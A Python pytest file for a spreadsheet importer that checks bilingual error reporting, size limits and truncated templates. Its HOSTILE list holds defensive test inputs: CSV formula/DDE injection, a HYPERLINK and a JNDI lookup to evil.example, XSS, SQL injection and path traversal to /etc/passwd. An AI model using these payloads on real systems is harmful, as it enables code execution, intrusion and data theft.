"""The dry run of a spreadsheet: what is wrong, where people see it; and hostile sheets."""

import json

import pytest

from smartland.errors import SmartlandError, TooLarge
from smartland.schemas.documents import validate
from smartland_importers.spreadsheet_template import template, template_rows, template_xlsx
from support.sheets import BASE, NEED, check, examine, problems, sheet, to_csv
from support.workbooks import rows_of_texts, workbook

# problems, as people see them


def test_a_problem_names_row_letter_and_header_in_both_languages() -> None:
    (one,) = problems(sheet({}, {"id": "2", "corridor": "enrgia"}))
    assert (one.row, one.column, one.header) == (3, "F", "corridor")
    assert "enrgia" in one.message.it
    assert "enrgia" in one.message.en


def test_a_sheet_of_a_workbook_is_named() -> None:
    body = workbook({"Bisogni": rows_of_texts([list(NEED)[1:], ["1", "", "x", "ipa-c_f205"]])})
    (one,) = problems(body)
    assert (one.sheet, one.row, one.column, one.header) == ("Bisogni", 2, "B", "title_it")


@pytest.mark.parametrize(
    ("change", "column", "words"),
    [
        ({"title_it": ""}, "title_it", "required"),
        ({"stakeholder": ""}, "stakeholder", "required"),
        ({"stakeholder": "Comune di Milano"}, "stakeholder", "names no resource"),
        ({"budget": "tanti"}, "budget", "number"),
        ({"budget": "1.250"}, "budget", "Ambiguous"),
        ({"valid_until": "2026-02-30"}, "valid_until", "day"),
        ({"valid_from": "2026-05-01", "valid_until": "2026-04-01"}, "valid_until", "after"),
        ({"id": ""}, "id", "neither"),
        ({"title_it": "x" * 1_001}, "title_it", "1001"),
        ({"title_it": "x" * 20_001}, "", "20000"),
        ({"trl": "trl-99"}, "trl", "vocabulary"),
    ],
)
def test_a_bad_row_says_where_and_why(change: dict[str, str], column: str, words: str) -> None:
    (one,) = problems(sheet(change))
    assert (one.row, one.header, one.severity) == (2, column, "error")
    assert words in one.message.en
    assert one.message.it != one.message.en


def test_rules_of_a_kind_are_judged_by_the_validation_given() -> None:
    firm = {"#stakeholder": "", "id": "1", "name_it": "Acme", "stakeholder_kind": "firm"}
    body = sheet({}, first=firm)
    assert check(body, "x.csv", BASE) == []
    (one,) = problems(body)
    assert one.row == 2
    assert "VAT" in one.message.en


def test_missing_columns_are_told_once() -> None:
    body = sheet({}, {}, first={"#need": "", "title_it": "x", "description_it": "y"})
    assert [(one.row, one.column) for one in problems(body)] == [(1, ""), (1, "")]
    text = " ".join(one.message.en for one in problems(body))
    assert "stakeholder" in text
    assert "“id”" in text


def test_unknown_and_repeated_columns_are_told() -> None:
    header = [*NEED, "colore", "vuota", "titolo (it)"]
    body = to_csv([header, [*NEED.values(), "blu", "", "altro"]])
    told = {(one.column, one.header) for one in problems(body)}
    assert told == {("F", "colore"), ("H", "titolo (it)")}


def test_two_rows_of_one_identity_are_told() -> None:
    (one,) = problems(sheet({}, {"title_it": "Altro"}))
    assert one.row == 3
    assert "Row 2" in one.message.en


def test_inside_a_structure_what_is_required_is_required() -> None:
    firm = {"#stakeholder": "", "vat": "00743110157", "name_it": "A", "stakeholder_kind": "firm"}
    body = sheet({"activity.code": "", "activity.edition": "2025"}, first=firm)
    (one,) = problems(body)
    assert (one.header, one.message.en) == ("activity.code", "A value is required.")


# hostile sheets

HOSTILE = (
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+HYPERLINK("http://evil.example","x")',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\u202egnp.exe",
    "a\x00b",
    "a\ud800b".encode("utf-8", "replace").decode(),
    "{{7*7}}",
    "${jndi:ldap://evil.example}",
    "'; DROP TABLE revision; --",
    "../../etc/passwd",
    "x" * 20_000,
    "\\" * 999,
    "|" * 999,
    "1" * 5_000,
    "é" * 5_000,
    "\n" * 500 + "x",
)


@pytest.mark.parametrize("cell", HOSTILE)
@pytest.mark.parametrize("kind", ["stakeholder", "dataset", "need", "project"])
def test_hostile_cells_are_data_or_problems(kind: str, cell: str) -> None:
    """One row a column: that cell hostile, the others as in the example."""
    header, _, example = template_rows(kind)
    rows = []
    for at in range(1, len(header)):
        row = ["", f"id{at}", *example[2:]]
        row[at] = cell
        rows.append(row)
    body = to_csv([header, *rows])
    examined = examine(body, "x.csv", BASE, validate=validate)
    assert examined.rows == len(rows)
    for one in examined.problems:
        assert json.dumps([one.message.it, one.message.en])
        assert len(one.message.it) < 1_000


def test_a_ragged_row_is_told_and_the_others_come_in() -> None:
    body = sheet({}, {"id": "2"}) + b"x;y;z;t;u;v;w\r\n" + b";3;t;d;ipa-c_f205\r\n"
    examined = examine(body, "x.csv", BASE, validate=validate)
    assert examined.good["need"] == 3
    assert examined.problems[0].row == 4
    assert "F4" in examined.problems[0].message.en


def test_limits() -> None:
    header = b"#need;id;title;description;stakeholder\r\n"
    assert check(header + b"# skipped\r\n" * 200_000, "x.csv", BASE) == []
    with pytest.raises(TooLarge, match="200000 rows"):
        check(header + b"# skipped\r\n" * 200_001, "x.csv", BASE)
    with pytest.raises(TooLarge, match="300 columns"):
        check(to_csv([[f"c{n}" for n in range(301)]]), "need.csv", BASE)


@pytest.mark.parametrize("kind", ["need", "dataset"])
def test_a_template_cut_anywhere_never_crashes(kind: str) -> None:
    for body, name in ((template(kind), "x.csv"), (template_xlsx([kind]), "x.xlsx")):
        for length in range(1, len(body), max(1, len(body) // 60)):
            try:
                check(body[:length], name, BASE, validate=validate)
            except SmartlandError as error:
                assert error.message.it  # noqa: PT017 - either outcome is right
